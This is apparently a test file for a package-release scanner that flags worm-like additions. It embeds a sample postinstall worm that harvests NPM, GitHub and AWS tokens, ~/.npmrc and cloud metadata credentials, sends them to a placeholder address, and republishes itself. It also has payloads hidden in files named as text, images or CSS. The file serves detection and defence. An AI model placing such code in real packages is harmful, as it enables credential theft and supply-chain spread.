import { describe, expect, test } from "vitest";
import { judgeUpdate, type PackageChange } from "../../test/compare-packages.ts";

/**
 * What the worms of 2025 and 2026 added to packages whose provenance was valid, put together from reports: a bundle that
 * an install script runs, that reads tokens, finds more of them, sends them away and publishes itself. It does nothing
 * here: nobody runs it, and its addresses are of the range that is reserved for documents.
 */
const bundle = `
const { execSync } = require("child_process");
const https = require("https");
const fs = require("fs");
const os = require("os");
const path = require("path");
const _0x1a2b = "collect", _0x1a2c = "token", _0x1a2d = "publish", _0x1a2e = "secrets", _0x1a2f = "repo", _0x1a30 = "wf";
async function main() {
  const found = { ...process.env };
  found[_0x1a2c] = process.env.NPM_TOKEN || process.env.GITHUB_TOKEN || process.env["AWS_SECRET_ACCESS_KEY"];
  found.npmrc = fs.readFileSync(path.join(os.homedir(), ".npmrc"), "utf8");
  const role = await fetch("http://169.254.169.254/latest/meta-data/iam/security-credentials/");
  found.role = await role.text();
  https.request({ host: "203.0.113.7", method: "POST", path: "/" + _0x1a2a }).end(JSON.stringify(found));
  execSync("npm publish");
  new Function(Buffer.from("${Buffer.from("void 0;".repeat(150)).toString("base64")}", "base64").toString())();
}
main();
`;

test("finds everything that a worm adds to a package", async () => {
  const { verdict, findings } = await judgeUpdate(
    {
      manifest: {
        files: ["dist", "bundle.js", ".github", ".claude"],
        scripts: { postinstall: "node bundle.js" },
        optionalDependencies: { "@acme/setup": "github:acme/setup#79ac49eedf774dd4b0cfa308722bc463cfe5885c" },
        type: undefined,
      },
      files: {
        "bundle.js": bundle,
        ".github/workflows/discussion.yaml": "on: discussion\njobs: {}\n",
        ".claude/settings.json": '{ "hooks": {} }',
        // As ES modules they no longer are what the manifest says, which publint sees; that is not what is shown here.
        "dist/index.js": "exports.answer = 42;\n",
      },
    },
    { last: { manifest: { type: undefined }, files: { "dist/index.js": "exports.answer = 42;\n" } } },
  );
  expect(verdict).toBe("failed");
  const errors = findings.filter(({ severity, rule }) => severity === "error" && !/^(?:publint|types)-/.test(rule));
  expect(errors.map(({ rule, where }) => `${rule} ${where}`)).toEqual([
    "capability-new bundle.js:10",
    "capability-new bundle.js:10",
    "capability-new bundle.js:11",
    "capability-new bundle.js:16",
    "capability-new bundle.js:2",
    "capability-new bundle.js:3",
    "capability-new bundle.js:4",
    "capability-new bundle.js:9",
    "dependency-exotic package.json optionalDependencies.@acme/setup",
    "file-kind-new .claude/settings.json",
    "file-kind-new .github/workflows/discussion.yaml",
    "host-new bundle.js:12",
    "host-new bundle.js:14",
    "lifecycle-script package.json scripts.postinstall",
    "text-encoded bundle.js:16",
    "text-obfuscated bundle.js:7",
  ]);
  const capabilities = errors.flatMap(
    ({ message }) => /\(([a-z-]+)\), as the last release did not/.exec(message)?.[1] ?? [],
  );
  expect(capabilities.toSorted()).toEqual([
    "credentials",
    "environment",
    "eval",
    "filesystem",
    "home",
    "network",
    "process",
    "whole-environment",
  ]);
  const credentials = errors.find(({ message }) => message.includes("(credentials)"));
  for (const credential of ["NPM_TOKEN", "GITHUB_TOKEN", "AWS_SECRET_ACCESS_KEY", ".npmrc", "169.254.169.254"]) {
    expect(credentials?.message).toContain(credential);
  }
});

describe("a worm in a file that is not named as code", () => {
  const payload = 'require("https").get("https://203.0.113.7/" + process.env.NPM_TOKEN);\n';
  const index = "export const answer = 42;\n";
  const hidden = (path: string, loader: string, content = payload): PackageChange => ({
    files: { "dist/index.js": `${index}${loader}\n`, [path]: content },
  });
  const requires = 'import { createRequire } from "node:module"; const load = createRequire(import.meta.url);';

  async function judge(change: PackageChange): Promise<{ rules: string[]; misnamed: string[] }> {
    const { findings } = await judgeUpdate(change);
    const errors = findings.filter(({ severity }) => severity === "error");
    return {
      rules: errors.map(({ rule, where, message }) => {
        const capability = /\(([a-z-]+)\), as the last release did not/.exec(message)?.[1];
        return capability === undefined ? `${rule} ${where}` : `${capability} ${where}`;
      }),
      misnamed: errors.flatMap(({ rule, message }) => (rule === "code-misnamed" ? [message] : [])),
    };
  }

  test.each<[string, string, PackageChange]>([
    ["required text", "dist/x.txt", hidden("dist/x.txt", `${requires} load("./x.txt");`)],
    ["a required file without an ending", "dist/x", hidden("dist/x", `${requires} load("./x");`)],
    ["a required picture that is none", "dist/x.png", hidden("dist/x.png", `${requires} load("./x.png");`)],
    ["required declarations", "dist/x.d.ts", hidden("dist/x.d.ts", `${requires} load("./x.d.ts");`)],
    [
      "text that is required by a name in parts",
      "dist/x.txt",
      hidden("dist/x.txt", `${requires} const n = "./x"; load(n + ".txt");`),
    ],
    [
      "text that is required by a path in parts",
      "x/y.txt",
      hidden("x/y.txt", `${requires} load(join(import.meta.dirname, "..", "x", "y.txt"));`),
    ],
    ["an imported file without an ending", "dist/x", hidden("dist/x", 'import "./x";')],
    ["a thread", "dist/x.md", hidden("dist/x.md", 'new Worker(new URL("./x.md", import.meta.url));')],
    ["a forked process", "dist/x.dat", hidden("dist/x.dat", 'child.fork("dist/x.dat");')],
    ["a started process", "dist/x.css", hidden("dist/x.css", 'run.exec("node dist/x.css");')],
    [
      "a forked process, under another name",
      "dist/x.dat",
      hidden("dist/x.dat", 'import { fork as go } from "child_process"; go("dist/x.dat");'),
    ],
    [
      "a forked process, out of a pattern",
      "dist/x.dat",
      hidden("dist/x.dat", 'const { fork: go } = child; const on = go; on("dist/x.dat");'),
    ],
    ["a text that is run", "dist/x.dat", hidden("dist/x.dat", 'vm.runInThisContext(readFileSync("dist/x.dat"));')],
    ["a function of a text", "dist/x.md", hidden("dist/x.md", 'new Function(await readFile("dist/x.md", "utf8"))();')],
    [
      "a text that is run, by way of names",
      "dist/x.md",
      hidden("dist/x.md", 'const run = eval; const text = fs.readFileSync("dist/x.md"); run(text.toString());'),
    ],
  ])("is found: %s", async (_title, path, change) => {
    const { rules, misnamed } = await judge(change);
    for (const capability of ["network", "credentials"]) expect(rules).toContain(`${capability} ${path}:1`);
    expect(misnamed).toEqual([expect.stringContaining(`${path} is loaded as code (`)]);
    expect(misnamed[0]).toContain(" at dist/index.js:2)");
  });

  test("is found where a program of the manifest is named like data", async () => {
    const { rules, misnamed } = await judge({
      manifest: { bin: { sound: "./dist/cli.json" } },
      files: { "dist/cli.json": `#!/usr/bin/env node\n${payload}` },
    });
    expect(rules).toContain("network dist/cli.json:2");
    expect(misnamed).toEqual(["dist/cli.json is loaded as code (bin of package.json), which its name does not say."]);
  });

  test("is found where nothing that can be read loads it", async () => {
    const { rules } = await judge({ files: { "dist/x.txt": payload, "dist/y": payload } });
    expect(rules).toContain("network dist/x.txt:1");
  });

  test("is found through another file that is not named as code", async () => {
    const { misnamed } = await judge({
      files: {
        "dist/index.js": `${index}${requires} load("./a.txt");\n`,
        "dist/a.txt": 'require("./b.txt");\n',
        "dist/b.txt": payload,
      },
    });
    expect(misnamed).toEqual([
      expect.stringContaining("dist/a.txt is loaded as code (require at dist/index.js:2)"),
      expect.stringContaining("dist/b.txt is loaded as code (require at dist/a.txt:1)"),
    ]);
  });

  test.each<[string, PackageChange]>([
    ["required JSON", hidden("dist/x.json", `${requires} load("./x.json");`, '{ "fetch": "(1)" }')],
    ["an imported stylesheet", hidden("dist/x.css", 'import "./x.css";', ".a { color: rgb(1, 2, 3); }\n")],
    ["a text that a started program reads", hidden("dist/x.txt", 'run.exec("cat dist/x.txt");', "Dear (reader),\n")],
    [
      "a text that is read, and another that is run",
      hidden("dist/x.md", 'log(readFileSync("dist/x.md")); new Script("1");', "Dear (reader),\n"),
    ],
    ["prose that is valid JavaScript", { files: { "dist/x.txt": "answer\n", "dist/y.csv": "1,2\n3,4\n" } }],
    [
      "a program without an ending",
      { manifest: { bin: "./dist/license-run" }, files: { "dist/license-run": `#!/usr/bin/env node\n` } },
    ],
    ["exported declarations", { files: { "dist/index.d.ts": 'export * from "./more.js";\n', "dist/more.js": "" } }],
    ["an exported stylesheet", { manifest: { style: "./dist/x.css" }, files: { "dist/x.css": "a { b: c(d); }\n" } }],
  ])("is not seen in %s", async (_title, change) => {
    expect((await judge(change)).rules.filter((rule) => !/^(?:publint|types|process)/.test(rule))).toEqual([]);
  });
});
